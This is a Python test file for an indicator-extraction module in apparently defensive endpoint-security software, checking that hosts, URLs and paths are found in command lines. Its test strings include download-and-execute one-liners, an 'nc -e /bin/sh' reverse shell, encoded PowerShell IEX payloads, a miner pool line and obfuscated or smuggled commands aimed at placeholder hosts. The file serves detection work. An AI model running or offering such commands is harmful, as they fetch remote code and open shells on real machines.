"""Values inside a text: what is taken out, and what is nearly a value and is not."""

import base64
import json
import time
import unicodedata
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from controller.indicators.matcher import Matcher
from controller.indicators.text import MOST_VALUES, values_in
from controller.model.indicator import Grade, Kind, Observation
from tests.visits import a_list

RECORDED: tuple[str, ...] = tuple(json.loads((Path(__file__).parents[1] / "data/texts/recorded.json").read_text()))
"""Command lines, services, tasks, registry values, DNS and hosts lines as on real Windows PCs; all names invented."""


def of(kind: Kind, text: str) -> set[str]:
    return {value for each, value in values_in(text) if each is kind}


def met(text: str, kind: Kind, listed: str) -> list[Grade]:
    """Return the grades with which a text meets one listed value, normalised as lists are."""
    seen = [Observation(kind=each, value=value, collector="autostart") for each, value in values_in(text)]
    return [match.grade for match in Matcher([a_list((kind, listed))]).match(seen)]


def encoded(script: str) -> str:
    return base64.b64encode(script.encode("utf-16-le")).decode()


@pytest.mark.parametrize(
    ("kind", "text", "value"),
    [
        (Kind.URL, 'explorer.exe "http://c2.bad.example/a.hta"', "http://c2.bad.example/a.hta"),
        (Kind.URL, "curl -s http://c2.bad.example/x.sh | sh", "http://c2.bad.example/x.sh"),
        (Kind.URL, "mshta.exe HTTPS://C2.bad.example:8443/a?b=c&d", "HTTPS://C2.bad.example:8443/a?b=c&d"),
        (Kind.URL, "(New-Object Net.WebClient).DownloadString('http://bad.example/a')", "http://bad.example/a"),
        (Kind.URL, "see http://bad.example/a.", "http://bad.example/a"),
        (Kind.DOMAIN, "nslookup c2.bad.example", "c2.bad.example"),
        (Kind.DOMAIN, "--pool c2.bad.example:4444 -u x", "c2.bad.example"),
        (Kind.DOMAIN, "ping bad.example.", "bad.example."),
        (Kind.DOMAIN, "203.0.113.66 portal.bank.example", "portal.bank.example"),
        (Kind.DOMAIN, "x=bad.example;y=1", "bad.example"),
        (Kind.DOMAIN, "nc -e /bin/sh xn--bcher-kva.example 443", "xn--bcher-kva.example"),
        (Kind.ADDRESS, "203.0.113.66 portal.bank.example", "203.0.113.66"),
        (Kind.ADDRESS, "net use \\\\203.0.113.66\\c$", "203.0.113.66"),
        (Kind.ADDRESS, "ssh root@203.0.113.66", "203.0.113.66"),
        (Kind.ADDRESS, "nc 203.0.113.66 4444", "203.0.113.66"),
        (Kind.ADDRESS, "nc [2001:db8::7]:443", "2001:db8::7"),
        (Kind.ENDPOINT, "--connect=203.0.113.66:8443", "203.0.113.66:8443"),
        (Kind.ENDPOINT, "nc [2001:db8::7]:443", "[2001:db8::7]:443"),
        (Kind.PATH, 'cmd.exe /c start "" "%APPDATA%\\KT\\nhac.exe"', "%APPDATA%\\KT\\nhac.exe"),
        (Kind.PATH, "%APPDATA%\\KT\\nhac.exe -d", "%APPDATA%\\KT\\nhac.exe"),
        (Kind.PATH, "C:\\Program Files\\KT\\nhac.exe -d", "C:\\Program Files\\KT\\nhac.exe"),
        (Kind.PATH, 'rundll32 "C:\\Users\\Kế toán\\a b.dll",Run', "C:\\Users\\Kế toán\\a b.dll"),
        (Kind.PATH, "rundll32.exe C:\\ProgramData\\x.dll,Run", "C:\\ProgramData\\x.dll"),
        (Kind.PATH, "\\\\fs01\\share$\\evil.exe /q", "\\\\fs01\\share$\\evil.exe"),
        (Kind.PATH, "sh -c '/opt/kt/evil-run -d'", "/opt/kt/evil-run"),
        (Kind.PATH, "17 3 * * * root /var/tmp/.cap-nhat/kworkerd", "/var/tmp/.cap-nhat/kworkerd"),
        (Kind.NAME, "evil.exe -x", "evil.exe"),
        (Kind.NAME, "cd /opt/kt && ./evil.sh", "evil.sh"),
        (Kind.NAME, 'start "nhạc chuông.exe"', "chuông.exe"),
        (Kind.DOMAIN, "c^md /c pi^ng ba^d.exam^ple", "bad.example"),
        (Kind.DOMAIN, 'cmd /c p"in"g b"a"d.ex""ample', "bad.example"),
        (Kind.DOMAIN, "p`ing b`ad.example", "bad.example"),
        (Kind.DOMAIN, "sh -c 'ping ba'd'.example'", "bad.example"),
        (Kind.DOMAIN, "ssh -N -R 2222:localhost:22 an@bad.example", "bad.example"),
        (Kind.DOMAIN, "curl -x an:mk@bad.example:8080 x", "bad.example"),
        (Kind.DOMAIN, "open('//bad.example/x')", "bad.example"),
        (Kind.URL, "x http://a.example/?to=http://bad.example/x", "http://bad.example/x"),
        (Kind.URL, "x http://a.example/?to=http://bad.example/x", "http://a.example/?to=http://bad.example/x"),
        (Kind.URL, "--peers=http://bad.example/1,http://bad.example/2", "http://bad.example/1"),
        (Kind.URL, "--peers=http://bad.example/1,http://bad.example/2", "http://bad.example/2"),
        (Kind.DOMAIN, "scp x an@bad.example:/tmp/x", "bad.example"),
        (Kind.DOMAIN, "\\\\bad.example@SSL@8443\\dav\\x.exe", "bad.example"),
        (Kind.DOMAIN, "curl bad.example/x.sh", "bad.example"),
        (Kind.DOMAIN, "10 mail.bad.example.", "mail.bad.example."),
        (Kind.DOMAIN, "update.bad.com", "update.bad.com"),
        (Kind.URL, "curl bad.example/x.sh", "http://bad.example/x.sh"),
        (Kind.URL, "xmrig -o stratum+tcp://pool.bad.example:4444 -u x", "stratum+tcp://pool.bad.example:4444"),
        (Kind.ADDRESS, "2001:db8::7", "2001:db8::7"),
        (Kind.ADDRESS, "fe80::1%11", "fe80::1"),
        (Kind.ADDRESS, "net view \\\\203.0.113.66", "203.0.113.66"),
        (Kind.ADDRESS, "::ffff:203.0.113.66", "203.0.113.66"),
        (Kind.PATH, "\\\\?\\C:\\ProgramData\\x.exe -d", "C:\\ProgramData\\x.exe"),
        (Kind.PATH, "\\\\?\\UNC\\fs01\\share\\x.exe -d", "\\\\?\\UNC\\fs01\\share\\x.exe"),
        (Kind.PATH, "\\??\\C:\\Windows\\x.sys", "C:\\Windows\\x.sys"),
        (Kind.PATH, "\\SystemRoot\\Temp\\x.sys", "\\SystemRoot\\Temp\\x.sys"),
        (Kind.PATH, "%HOMEDRIVE%%HOMEPATH%\\x.exe", "%HOMEDRIVE%%HOMEPATH%\\x.exe"),
        (Kind.PATH, "& $env:APPDATA\\KT\\nhac.exe", "%APPDATA%\\KT\\nhac.exe"),
        (Kind.PATH, "cmd /v /c !APPDATA!\\KT\\nhac.exe", "%APPDATA%\\KT\\nhac.exe"),
        (Kind.PATH, "C:\\PROGRA~1\\KT\\NHACCH~1.EXE /q", "C:\\PROGRA~1\\KT\\NHACCH~1.EXE"),
        (Kind.PATH, "C:\\Program Files\\My.App v2\\x.exe,1", "C:\\Program Files\\My.App v2\\x.exe"),
        (Kind.PATH, "C:\\a b\\x.exe&calc.exe", "C:\\a b\\x.exe"),
        (Kind.PATH, "rundll32 C:\\Kế toán\\x.dat,Run", "C:\\Kế toán\\x.dat"),
        (Kind.PATH, "LD_PRELOAD=/usr/lib/a.so:/tmp/b.so sh", "/tmp/b.so"),
        (Kind.PATH, "sh /opt/k\\ t/x.sh", "/opt/k t/x.sh"),
        (Kind.PATH, "sh '/opt/k t/x.sh'", "/opt/k t/x.sh"),
        (Kind.PATH, "cd /opt/kt && ./evil-run -d", "/opt/kt/evil-run"),
        (Kind.PATH, "cd '/opt/k t'; sh run.sh", "/opt/k t/run.sh"),
        (Kind.PATH, "cmd /c cd /d C:\\ProgramData\\evil & evil.exe", "C:\\ProgramData\\evil\\evil.exe"),
        (Kind.PATH, 'start "" /D C:\\ProgramData\\evil evil.exe', "C:\\ProgramData\\evil\\evil.exe"),
        (Kind.PATH, "$HOME/.cache/evil2", "$HOME/.cache/evil2"),
        (Kind.PATH, '"${HOME}/.cache/evil2" -d', "${HOME}/.cache/evil2"),
        (Kind.PATH, "cd ~/.cache && ./evil2", "~/.cache/evil2"),
        (Kind.NAME, ".\\evil.exe", "evil.exe"),
        (Kind.NAME, "rundll32 payload.dat,Run", "payload.dat"),
        (Kind.NAME, "notepad readme.txt", "readme.txt"),
    ],
)
def test_a_value_is_taken_out_of_a_text(kind: Kind, text: str, value: str) -> None:
    assert value in of(kind, text)


@pytest.mark.parametrize(
    ("kind", "text", "value"),
    [
        (Kind.DOMAIN, "sendmail an@bad.example", "bad.example"),
        (Kind.DOMAIN, "ping notbad.example", "bad.example"),
        (Kind.DOMAIN, "ping bad.example.corp.example", "bad.example"),
        (Kind.DOMAIN, "ping my-bad.example", "bad.example"),
        (Kind.DOMAIN, "svchost.exe -k netsvcs", "svchost.exe"),
        (Kind.DOMAIN, "C:\\x\\update.dll", "update.dll"),
        (Kind.DOMAIN, "systemd-journald.service", "systemd-journald.service"),
        (Kind.DOMAIN, "System.Net.WebClient", "Net.WebClient"),
        (Kind.DOMAIN, "/opt/bad.example/x", "bad.example"),
        (Kind.ADDRESS, "Chrome/203.0.113.66 Safari", "203.0.113.66"),
        (Kind.ADDRESS, "setup --version 203.0.113.66", "203.0.113.66"),
        (Kind.ADDRESS, "agent v203.0.113.66", "203.0.113.66"),
        (Kind.ADDRESS, "203.0.113.66.1", "203.0.113.66"),
        (Kind.ADDRESS, "1.203.0.113.66", "203.0.113.66"),
        (Kind.ADDRESS, "lib-203.0.113.66.so", "203.0.113.66"),
        (Kind.ADDRESS, "10.0.19041.1", "10.0.19041.1"),
        (Kind.ADDRESS, 'DisplayVersion: "203.0.113.66"', "203.0.113.66"),
        (Kind.ADDRESS, "-oid 1.3.6.1.4.1.311", "1.3.6.1"),
        (Kind.ADDRESS, "-oid 1.3.6.1.4.1.311", "6.1.4.1"),
        (Kind.ADDRESS, "C:\\App\\203.0.113.66\\app.exe", "203.0.113.66"),
        (Kind.ADDRESS, "C:\\\\App\\\\203.0.113.66\\\\app.exe", "203.0.113.66"),
        (Kind.ADDRESS, "at 12:30:45", "12:30:45"),
        (Kind.ADDRESS, "0.0.0.0", "0.0.0.0"),
        (Kind.ADDRESS, "::1", "::1"),
        (Kind.ENDPOINT, "--listen 127.0.0.1:8080", "127.0.0.1:8080"),
        (Kind.ADDRESS, "mac aa:bb:cc:dd:ee:ff", "aa:bb:cc:dd:ee:ff"),
        (Kind.DOMAIN, "setup_bad.example", "bad.example"),
        (Kind.DOMAIN, "cat /etc/conf.d/bad.example", "bad.example"),
        (Kind.DOMAIN, "--app=%bad.example%", "bad.example"),
        (Kind.ENDPOINT, "203.0.113.66:8443x", "203.0.113.66:8443"),
        (Kind.PATH, "a/b/c", "/b/c"),
        (Kind.NAME, "http://bad.example/evil.exe", "evil.exe"),
        (Kind.NAME, "report 3.12", "3.12"),
        (Kind.URL, "javahttp://bad.example/a", "http://bad.example/a"),
    ],
)
def test_what_is_nearly_a_value_is_not_taken(kind: Kind, text: str, value: str) -> None:
    assert value not in of(kind, text)


def test_what_powershell_is_given_in_base64_is_read_too() -> None:
    script = encoded("IEX (iwr http://bad.example/a)")

    for option in ("-EncodedCommand", "-enc", "-e", "/EC"):
        assert of(Kind.URL, f"powershell.exe -nop {option} {script}") == {"http://bad.example/a"}


def test_a_script_inside_a_script_is_decoded_and_one_that_was_cut_as_far_as_it_goes() -> None:
    inner = f"powershell -enc {encoded('iwr http://bad.example/a; start x.exe')}"
    script = encoded(inner)

    assert of(Kind.URL, f"powershell -e {script}") == {"http://bad.example/a"}
    assert of(Kind.URL, f"powershell -e {encoded('iwr http://bad.example/a ; start something')[:-9]}") == {
        "http://bad.example/a"
    }


@pytest.mark.parametrize("text", ["powershell -enc AAAA", "powershell -enc " + "A" * 17, "-e " + "!" * 40])
def test_what_only_looks_encoded_does_no_harm(text: str) -> None:
    assert of(Kind.URL, text) == set()


def test_a_text_gives_a_bounded_number_of_values() -> None:
    assert len(values_in(" ".join(f"a{number}.example" for number in range(2 * MOST_VALUES)))) == MOST_VALUES


def test_a_command_line_of_8_kb_has_no_room_to_hide_a_value_behind_others() -> None:
    padded = " ".join(f"{number:x}.vn" for number in range(8192))[:8000] + " bad.example"

    assert "bad.example" in of(Kind.DOMAIN, padded)


@given(st.text(max_size=300))
def test_no_text_is_too_odd(text: str) -> None:
    assert all(value for _, value in values_in(text))


# A list against a text


@pytest.mark.parametrize(
    ("text", "kind", "listed", "grades"),
    [
        ("ping a.example.com", Kind.DOMAIN, "example.com", [Grade.PROBABLE]),
        ("ping example.com", Kind.DOMAIN, "evil.example.com", []),
        ("ping example.com.corp.test", Kind.DOMAIN, "example.com", []),
        ("explorer http://a.example.com/x", Kind.DOMAIN, "example.com", [Grade.PROBABLE]),
        ("explorer http://example.com/x", Kind.URL, "http://example.com/x", [Grade.PROBABLE]),
        ("curl http://203.0.113.66/x", Kind.ADDRESS, "203.0.113.66", [Grade.PROBABLE]),
        ("nc 203.0.113.66 1", Kind.NETWORK, "203.0.113.0/24", [Grade.PROBABLE]),
        ("127.0.0.1 portal.example", Kind.NETWORK, "127.0.0.0/8", []),
        ("x %APPDATA%\\KT\\nhac.exe", Kind.PATH, "c:\\users\\*\\appdata\\roaming\\kt\\nhac.exe", [Grade.PROBABLE]),
        ("\\\\?\\UNC\\fs01\\s\\x.exe", Kind.PATH, "\\\\fs01\\s\\x.exe", [Grade.PROBABLE]),
        ("C:\\PROGRA~1\\KT\\a.exe", Kind.PATH, "c:\\program files\\kt\\a.exe", [Grade.PROBABLE]),
        (
            unicodedata.normalize("NFD", "x C:\\Kế toán\\Nhạc chuông.exe -d"),
            Kind.PATH,
            "c:\\kế toán\\nhạc chuông.exe",
            [Grade.PROBABLE],
        ),
        ("./evil.exe", Kind.NAME, "evil.exe", [Grade.SUSPECT]),
    ],
)
def test_a_text_meets_a_list(text: str, kind: Kind, listed: str, grades: list[Grade]) -> None:
    assert met(text, kind, listed) == grades


# Healthy computers


def test_nothing_is_taken_out_of_a_text_of_a_real_pc_that_is_not_in_it() -> None:
    strange = [(text, value) for text in RECORDED for _, value in values_in(text) if value not in text]

    assert strange == []


def test_texts_of_real_pcs_hold_few_shapes_of_domains_and_no_address_that_is_none() -> None:
    """Counted by hand: names of packages and services with dots are the only shapes that are no domains."""
    found = {each for text in RECORDED for each in values_in(text)}
    domains = {value for kind, value in found if kind is Kind.DOMAIN}
    addresses = {value for kind, value in found if kind in {Kind.ADDRESS, Kind.ENDPOINT}}

    no_domains = {each for each in domains if ".AppX" in each or ".mojom." in each}
    assert (len(domains), len(no_domains)) == (13, 6)
    assert all(each.startswith(("203.0.113.", "198.51.100.", "2001:db8:")) for each in addresses)


# Hostile texts


@pytest.mark.parametrize(
    "piece",
    [
        "a.", "a-", "a", "%a%\\", "\\\\a\\b\\", "C:\\", '"C:\\x ', "'/x", "-e AAAAAAAAAAAAAAAAAAAA ", "http://", "a@",
        "1.2.3.4:", "[::", "1:", "cd a;", "cd /a b ", 'start "" ', "^", '"', "a'b'", "x.exe ", "!a!", "$HOME/", "a_.",
        "a://",
        " ", "ftp:", "\\\\?\\unc\\a ", "set-location -p ", "ssh a@a.b ", "a:b://", "\\", "v 1.2.3.4 ",
    ],
)  # fmt: skip
def test_the_cost_of_a_text_grows_no_faster_than_its_length(piece: str) -> None:
    """Of sixteen times the letters: 16 times the CPU where it is linear, 256 times where it is not."""

    def cpu(letters: int) -> float:
        began = time.process_time()
        values_in.__wrapped__((piece * letters)[:letters])
        return time.process_time() - began

    short = min(cpu(2048) for _ in range(3))
    assert cpu(2048 * 16) < 80 * max(short, 0.0002)
